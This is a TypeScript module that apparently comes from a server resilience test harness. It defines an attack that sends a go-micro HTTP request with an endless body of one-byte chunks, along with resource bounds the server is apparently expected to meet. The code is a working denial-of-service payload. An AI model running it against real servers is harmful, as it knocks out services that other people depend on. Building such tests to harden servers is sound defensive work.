import type { Attack } from "../attack.ts";
import { goMicroHead } from "../wire/http1.ts";

const chunks = Buffer.from("1\r\n \r\n".repeat(10_000));

export const attack: Attack = {
  protocol: "go-micro",
  description: "request in chunks of one byte that does not end",
  bounds: { cpuMsPerMB: 900, heldPerByte: 3 },
  async run(target) {
    const connection = await target.connect();
    const head = goMicroHead("Say", "Content-Type: application/json", "Transfer-Encoding: chunked");
    await connection.write(head);
    for (let sent = 0; sent < 100 && (await connection.write(chunks)); sent++);
  },
};
